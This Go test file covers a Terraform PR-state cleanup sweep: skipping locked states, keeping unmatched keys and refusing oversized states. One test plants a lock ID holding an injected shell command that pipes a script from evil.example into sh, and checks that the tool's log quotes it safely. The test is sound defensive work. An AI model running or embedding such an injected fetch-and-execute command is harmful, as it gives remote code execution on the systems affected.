package cleanup_test

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/prstate/prstate/internal/cleanuptest"
	"github.com/prstate/prstate/pipeline/applylock"
	"github.com/prstate/prstate/pipeline/cleanup"
	"github.com/prstate/prstate/pipeline/clock/clocktest"
	"github.com/prstate/prstate/pipeline/statekey"
	"github.com/prstate/prstate/pipeline/storage"
	"github.com/prstate/prstate/pipeline/storage/memstore"
)

// TestSweepSkipsLockedPRStatesAtOnce: a PR state whose lock is held (a
// planted .tflock, or a DynamoDB lock item) is skipped at once, counted and
// reported, and the sweep goes on to the next PR state without waiting any
// of its 30 minute lock-timeout; the locked state is untouched.
func TestSweepSkipsLockedPRStatesAtOnce(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name            string
		lockfile, table bool
	}{{"tflock", true, false}, {"dynamodb", false, true}} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ctx := context.Background()
			b, tb := memstore.NewBucket("acme-state"), memstore.NewTable("tf-locks")
			s := cleanuptest.Store{Bucket: b}
			if tc.table {
				s.Table = tb
			}
			st := cleanuptest.Stack(t, s, tc.lockfile, tc.table, false)
			cleanuptest.Production(t, s)
			free := cleanuptest.SeededPR(t, s, st, 1, 0)
			locked := cleanuptest.SeededPR(t, s, st, 2, 0)
			also := cleanuptest.SeededPR(t, s, st, 3, 0)
			planted := applylock.LockInfo{ID: "0d5c; curl -s https://evil.example/p | sh; #", Operation: "OperationTypePlan", Who: "mallory@pr"}
			if tc.lockfile {
				if _, err := b.PutObject(ctx, locked+".tflock", planted.Marshal(), storage.PutOptions{IfNoneMatch: true}); err != nil {
					t.Fatal(err)
				}
			} else if err := tb.PutItem(ctx, storage.Item{storage.KeyAttr: statekey.LockItemID("acme-state", locked), "Info": string(planted.Marshal())}, storage.Condition{}); err != nil {
				t.Fatal(err)
			}
			before := cleanuptest.Take(t, s)
			clk := clocktest.At(time.Now().Add(2 * time.Hour))
			o := fastOpts()
			o.LockTimeout, o.Clock = 30*time.Minute, clk
			var logs bytes.Buffer
			o.Logf = func(f string, a ...any) { logs.WriteString(strings.TrimSpace(fmt.Sprintf(f, a...)) + "\n") }
			start := clk.Now()
			rep, err := cleanup.Sweep(ctx, []cleanup.SweepTarget{{Stack: st, Bucket: b, Table: tablePtr(tc.table, tb)}}, cleanup.SweepOptions{Cleanup: o, OlderThan: time.Hour})
			if waited := clk.Now().Sub(start); waited > time.Second {
				t.Errorf("the sweep waited %s for the locked PR state", waited)
			}
			if err != nil || rep.Locked != 1 || rep.Refused != 1 || len(rep.Results) != 3 {
				t.Fatalf("report %+v, err %v; want 3 results, 1 locked, no error", rep, err)
			}
			for _, r := range rep.Results {
				switch r.PR {
				case 2:
					if r.Removed() || !strings.HasPrefix(r.Skipped, "locked by mallory@pr") {
						t.Errorf("locked PR state: %+v", r)
					}
				default:
					if !r.Removed() {
						t.Errorf("PR %d: %+v", r.PR, r)
					}
				}
			}
			if !strings.Contains(logs.String(), "force-unlock '0d5c; curl -s https://evil.example/p | sh; #'") {
				t.Errorf("log lacks the quoted advice:\n%s", logs.String())
			}
			gone := []string{free, free + ".tflock", also, also + ".tflock"}
			if d := cleanuptest.Diff(before.Without("acme-state", gone...), cleanuptest.Take(t, s)); len(d) > 0 {
				t.Fatalf("sweep changed beyond PRs 1 and 3:\n%s", strings.Join(d, "\n"))
			}
		})
	}
}

// TestSweepListsUnmatchedKeysNeverDeletesThem: keys under the PR prefix
// the template does not match are reported, and stay, even with --force.
func TestSweepListsUnmatchedKeysNeverDeletesThem(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	b, tb := memstore.NewBucket("acme-state"), memstore.NewTable("tf-locks")
	s := cleanuptest.Store{Bucket: b, Table: tb}
	st := cleanuptest.Stack(t, s, true, true, false)
	cleanuptest.Production(t, s)
	pr := cleanuptest.SeededPR(t, s, st, 42, 0)
	strays := []string{"app/pr-0042/terraform.tfstate", "app/pr-zz/terraform.tfstate", "app/pr-42/terraform.tfstate.bak", "app/pr-/x"}
	for _, k := range strays {
		cleanuptest.Put(t, s, k, cleanuptest.StateJSON(1, "other", "terraform_data.z"))
	}
	before := cleanuptest.Take(t, s)
	o := fastOpts()
	o.Force, o.Clock = true, clocktest.At(time.Now().Add(2*time.Hour))
	rep, err := cleanup.Sweep(ctx, []cleanup.SweepTarget{{Stack: st, Bucket: b, Table: tb}}, cleanup.SweepOptions{Cleanup: o, OlderThan: time.Hour})
	if err != nil || len(rep.Results) != 1 || !rep.Results[0].Removed() {
		t.Fatalf("report %+v, err %v", rep, err)
	}
	want := append([]string(nil), strays...)
	if rep.UnmatchedCount != len(want) || strings.Join(rep.Unmatched, ",") != strings.Join(sorted(want), ",") {
		t.Fatalf("unmatched %v (%d), want %v", rep.Unmatched, rep.UnmatchedCount, sorted(want))
	}
	if d := cleanuptest.Diff(before.Without("acme-state", pr, pr+".tflock"), cleanuptest.Take(t, s)); len(d) > 0 {
		t.Fatalf("sweep changed beyond PR 42:\n%s", strings.Join(d, "\n"))
	}
}

// TestCleanupRefusesAPRStateTooLargeToRead: a PR state over MaxStateRead
// is never read: kept as "cannot tell" without --force, removed with it;
// a seed that large (a byte copy of production) is known by its ETag and
// removed.
func TestCleanupRefusesAPRStateTooLargeToRead(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	b := &countingBucket{Bucket: memstore.NewBucket("acme-state"), counts: func(key string) bool {
		return strings.HasPrefix(key, "app/pr-") && !strings.HasSuffix(key, ".tflock") // PR state bodies
	}}
	tb := memstore.NewTable("tf-locks")
	s := cleanuptest.Store{Bucket: b, Table: tb}
	st := cleanuptest.Stack(t, s, true, true, false)
	big := bigState(cleanup.MaxStateRead + 1)
	cleanuptest.Put(t, s, cleanuptest.Prod, big)
	seed := cleanuptest.SeededPR(t, s, st, 1, 0)
	huge := cleanuptest.SeededPR(t, s, st, 2, 0)
	cleanuptest.Put(t, s, huge, bigState(cleanup.MaxStateRead+2))
	b.reads = 0
	res, err := cleanup.Run(ctx, cleanuptest.CleanupStore(st, s), st, []int{1, 2}, fastOpts())
	if !cleanup.IsRefusal(err) || len(res) != 2 || !res[0].Removed() || res[1].Removed() || !strings.Contains(res[1].Skipped, "cannot tell") || !strings.Contains(res[1].Skipped, "MaxStateRead") {
		t.Fatalf("results %+v, err %v", res, err)
	}
	if b.reads != 0 {
		t.Fatalf("%d PR state reads of states over the limit", b.reads)
	}
	o := fastOpts()
	o.Force = true
	if res, err := cleanup.Run(ctx, cleanuptest.CleanupStore(st, s), st, []int{2}, o); err != nil || !res[0].Removed() {
		t.Fatalf("--force: %+v, %v", res, err)
	}
	if b.reads != 0 {
		t.Fatalf("--force read %d large states", b.reads)
	}
	_ = seed
}

// countingBucket counts the reads (GetObject, GetObjectVersion) of the
// keys counts picks.
type countingBucket struct {
	*memstore.Bucket
	counts func(key string) bool
	reads  int
}

func (c *countingBucket) GetObject(ctx context.Context, key string) (storage.Object, error) {
	if c.counts(key) {
		c.reads++
	}
	return c.Bucket.GetObject(ctx, key)
}

func (c *countingBucket) GetObjectVersion(ctx context.Context, key, v string) (storage.Object, error) {
	if c.counts(key) {
		c.reads++
	}
	return c.Bucket.GetObjectVersion(ctx, key, v)
}

// bigState is a valid state of n bytes (padded in an output's value).
func bigState(n int) []byte {
	head := `{"version":4,"terraform_version":"1.11.4","serial":3,"lineage":"` + cleanuptest.Lineage + `","outputs":{"pad":{"value":"`
	tail := `","type":"string"}},"resources":[{"mode":"managed","type":"terraform_data","name":"a","provider":"provider[\"terraform.io/builtin/terraform\"]","instances":[]}],"check_results":null}`
	return []byte(head + strings.Repeat("x", n-len(head)-len(tail)) + tail)
}

func sorted(s []string) []string {
	out := append([]string(nil), s...)
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func tablePtr(use bool, tb *memstore.Table) cleanup.Table {
	if !use {
		return nil
	}
	return tb
}
